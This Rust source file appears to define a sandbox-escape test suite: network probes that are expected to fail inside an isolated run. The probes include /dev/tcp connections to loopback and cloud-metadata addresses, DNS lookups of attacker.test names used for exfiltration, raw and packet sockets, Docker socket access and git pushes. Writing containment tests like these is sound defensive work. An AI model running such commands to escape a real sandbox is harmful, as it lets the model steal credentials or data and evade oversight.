//! Attempts to reach anything but the gateway.

use super::attack::Family::Network;
use super::sortie::Probe;
use super::{probe, works_outside};

const EMPTY: &str = "an empty network namespace";
const SOCKETS: &str = "an empty network namespace, without the rights to change it";
const MOUNTS: &str = "mounts that begin with nothing";

pub(super) const PROBES: &[Probe] = &[
    works_outside(probe(
        (Network, "loopback-service", EMPTY),
        "connect to a service on the host's loopback",
        "exec 3<>/dev/tcp/127.0.0.1/$PORT && cat <&3",
        &["Connection refused"],
    )),
    probe(
        (Network, "loopback-service-by-other-names", EMPTY),
        "connect to it as localhost, ::1, 0.0.0.0 and 127.1.2.3",
        "for host in localhost ::1 0.0.0.0 127.1.2.3 ::ffff:127.0.0.1; do \
         (exec 3<>/dev/tcp/$host/$PORT && cat <&3); done",
        &["Connection refused"],
    ),
    works_outside(probe(
        (Network, "address-of-the-host", EMPTY),
        "connect to the host by the addresses that it has on its networks",
        "for host in ${ADDRESSES:-127.0.0.1}; do (exec 3<>/dev/tcp/$host/$PORT && cat <&3); done",
        &["Network is unreachable", "Connection refused"],
    )),
    probe(
        (Network, "metadata-address", EMPTY),
        "ask the cloud's metadata service for credentials",
        "(exec 3<>/dev/tcp/169.254.169.254/80) && echo THROUGH; \
         (exec 3<>/dev/tcp/fd00:ec2::254/80) && echo THROUGH",
        &["Network is unreachable", "Cannot assign requested address"],
    ),
    probe(
        (Network, "address-on-the-internet", EMPTY),
        "connect to an address on the internet",
        "(exec 3<>/dev/tcp/192.0.2.1/443) && echo THROUGH; \
         (exec 3<>/dev/tcp/2001:db8::1/443) && echo THROUGH",
        &["Network is unreachable", "Cannot assign requested address"],
    ),
    probe(
        (Network, "private-networks", EMPTY),
        "connect to the networks of a house, a container host and a pod",
        "for host in 10.0.0.1 172.17.0.1 192.168.0.1 100.64.0.1 10.96.0.1; do \
         (exec 3<>/dev/tcp/$host/443) && echo THROUGH; done",
        &["Network is unreachable"],
    ),
    probe(
        (Network, "name-lookup", EMPTY),
        "look a name up, which would carry data out by itself",
        "getent ahosts some-data.attacker.test && echo THROUGH; \
         perl -MSocket -e 'print inet_aton(q(data.attacker.test)) \
         ? qq(THROUGH\\n) : qq(no name\\n)'",
        &["no name"],
    ),
    works_outside(probe(
        (Network, "datagrams", EMPTY),
        "send a datagram to a service on the host's loopback",
        "exec 3<>/dev/udp/127.0.0.1/$UDP; echo hello >&3; timeout 1 head -n 1 <&3; \
         echo nobody answers",
        &["nobody answers"],
    )),
    probe(
        (Network, "raw-socket", SOCKETS),
        "open a raw socket, to send echo requests with data in them",
        "perl -MSocket -e 'socket(S, AF_INET, SOCK_RAW, 1) and print qq(THROUGH\\n); print $!'",
        &["Operation not permitted"],
    ),
    probe(
        (Network, "packet-socket", SOCKETS),
        "open a packet socket, to read or forge what passes on a wire",
        "perl -MSocket -e 'socket(S, 17, SOCK_RAW, 768) and print qq(THROUGH\\n); print $!'",
        &["Operation not permitted", "Address family not supported"],
    ),
    probe(
        (Network, "own-interface", SOCKETS),
        "give itself an address, as a first step to a route",
        "perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0); \
         ioctl(S, 0x8916, pack(q(a16 S n a4 x8), q(lo), 2, 0, inet_aton(q(10.1.2.3)))) \
         and print qq(THROUGH\\n); print $!'",
        &["Operation not permitted"],
    ),
    works_outside(probe(
        (Network, "abstract-socket", EMPTY),
        "connect to a socket of the host that has a name and no file",
        "perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); \
         connect(S, pack_sockaddr_un(qq(\\0$ENV{NAME}))) or die $!; print <S>'",
        &["Connection refused", "Operation not permitted"],
    )),
    works_outside(probe(
        (Network, "socket-of-the-person", MOUNTS),
        "connect to a socket in the host's file system that is open to everybody",
        "perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); \
         connect(S, pack_sockaddr_un($ENV{SOCKET})) or die $!; print <S>'",
        &["No such file"],
    )),
    works_outside(probe(
        (Network, "gateway-of-another-run", MOUNTS),
        "connect to the gateway's socket of another run",
        "perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, \
         pack_sockaddr_un(qq($ENV{ZAZEN}/.zazen/runs/1.2/gateway/gateway.sock))) or die $!; \
         print qq(THROUGH\\n)'",
        &["No such file"],
    )),
    probe(
        (Network, "container-service", MOUNTS),
        "connect to a container service of the host, which would be root",
        "for socket in /var/run/docker.sock /run/docker.sock /run/podman/podman.sock \
         /run/containerd/containerd.sock; do perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); \
         connect(S, pack_sockaddr_un($ARGV[0])) and print qq(THROUGH\\n); print qq($!\\n)' $socket; \
         done",
        &["No such file"],
    ),
    probe(
        (Network, "virtual-socket", EMPTY),
        "connect to the machine that this machine runs on",
        "perl -MSocket -e 'socket(S, 40, SOCK_STREAM, 0) or die $!; \
         connect(S, pack(q(S S L L x4), 40, 0, 22, 2)) and print qq(THROUGH\\n); print $!'",
        &[
            "Address family not supported",
            "Operation not permitted",
            "No such device",
            "Cannot assign requested address",
            "Connection reset",
            "Network is unreachable",
        ],
    ),
    probe(
        (Network, "push-by-address", EMPTY),
        "push its commits to a server",
        "git push -q http://127.0.0.1:$PORT/x.git HEAD:refs/heads/main && echo THROUGH",
        &["refused", "Failed to connect", "Couldn't connect", "unable to access"],
    ),
    probe(
        (Network, "push-by-path", MOUNTS),
        "push its commits to the remote and to the mirror by their paths",
        "git push -q $REMOTE HEAD:refs/heads/main && echo THROUGH; \
         git push -q $ZAZEN/.zazen/mirrors/local/tally.git HEAD:refs/heads/main && echo THROUGH",
        &["does not appear to be a git repository", "No such file"],
    ),
];
